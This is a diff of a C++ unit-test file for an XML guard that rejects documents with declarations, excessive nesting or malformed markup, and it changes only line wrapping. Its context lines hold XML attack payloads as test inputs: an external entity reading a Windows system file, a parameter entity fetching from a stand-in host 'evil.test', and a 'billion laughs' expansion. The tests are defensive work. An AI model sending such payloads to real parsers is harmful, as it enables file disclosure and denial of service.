@@ -25,9 +25,10 @@ std::string Utf16(const std::string &ascii, bool bigEndian, bool mark) {
     return out;
 }
 
-const char kFeed[] = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- <!DOCTYPE in a comment -->\n"
-                     "<rss version=\"2.0\" a='>'><channel><item><description><![CDATA[<!DOCTYPE html><p>x</p>]]>"
-                     "</description><?pi <!ENTITY?><br/></item></channel></rss>";
+const char kFeed[] =
+    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- <!DOCTYPE in a comment -->\n"
+    "<rss version=\"2.0\" a='>'><channel><item><description><![CDATA[<!DOCTYPE html><p>x</p>]]>"
+    "</description><?pi <!ENTITY?><br/></item></channel></rss>";
 
 } // namespace
 
@@ -43,7 +44,8 @@ TEST(XmlGuard, DeclarationsAreRefusedInEveryEncoding) {
     const std::string entity = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///c:/windows/win.ini\">]><r>&x;</r>";
     const std::string parameter = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.test/p\"> %p;]><r/>";
     const std::string laughs = "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]><l>&b;</l>";
-    for (const std::string &doc : {external, entity, parameter, laughs, std::string("<r><!ENTITY x \"y\"></r>")}) {
+    for (const std::string &doc :
+         {external, entity, parameter, laughs, std::string("<r><!ENTITY x \"y\"></r>")}) {
         EXPECT_EQ(Check(doc), Verdict::kDeclaration) << doc;
         EXPECT_EQ(Check("\xEF\xBB\xBF" + doc), Verdict::kDeclaration) << doc;
         EXPECT_EQ(Check(Utf16(doc, false, false)), Verdict::kDeclaration) << doc;
@@ -64,8 +66,8 @@ TEST(XmlGuard, NestingBeyondTheLimitIsRefused) {
 }
 
 TEST(XmlGuard, WhatIsNotPlainMarkupIsRefused) {
-    for (const std::string &doc : {std::string(), std::string("text"), std::string("<r><!-- open"),
-                                   std::string("<r a=\"open>"), std::string("<![CDATA[x"),
-                                   std::string("\0\0\xFE\xFF", 4), std::string("<\0\0\0r\0\0\0", 8)})
+    for (const std::string &doc :
+         {std::string(), std::string("text"), std::string("<r><!-- open"), std::string("<r a=\"open>"),
+          std::string("<![CDATA[x"), std::string("\0\0\xFE\xFF", 4), std::string("<\0\0\0r\0\0\0", 8)})
         EXPECT_EQ(Check(doc), Verdict::kMalformed) << doc;
 }
